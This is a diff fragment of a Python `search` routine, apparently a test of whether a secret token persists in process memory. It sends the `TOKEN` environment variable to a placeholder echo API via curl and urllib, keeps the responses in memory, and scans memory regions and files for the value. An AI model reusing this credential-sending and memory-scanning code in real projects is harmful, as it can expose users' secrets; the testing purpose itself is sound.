@@ -188,11 +188,12 @@ def search(needle):
         return False
 
     helper = subprocess.Popen(['sh', '-c', 'sleep 1000 & wait'])
-    subprocess.run(['curl', '-sS', '-m', '20', '-H', 'X-Api-Key: ' + os.environ['TOKEN'], 'https://api.example.org/echo'], check=False)
+    kept = [subprocess.run(['curl', '-sS', '-m', '20', '-H', 'X-Api-Key: ' + os.environ['TOKEN'], 'https://api.example.org/echo'], check=False,
+                           stdout=subprocess.PIPE).stdout]
     import urllib.request
     try:
         request = urllib.request.Request('https://api.example.org/echo', headers={'X-Api-Key': os.environ['TOKEN']})
-        print(urllib.request.urlopen(request, timeout=20).read())
+        kept.append(urllib.request.urlopen(request, timeout=20).read())
     except OSError as e:
         print(e)
     regions = files = 0
@@ -224,6 +225,7 @@ def search(needle):
                 except OSError:
                     continue
     helper.kill()
+    print(len(kept), 'answers')
     print('searched %d regions, %d files' % (regions, files) if regions > 20 and files > 1 else 'nothing to search')
 
 
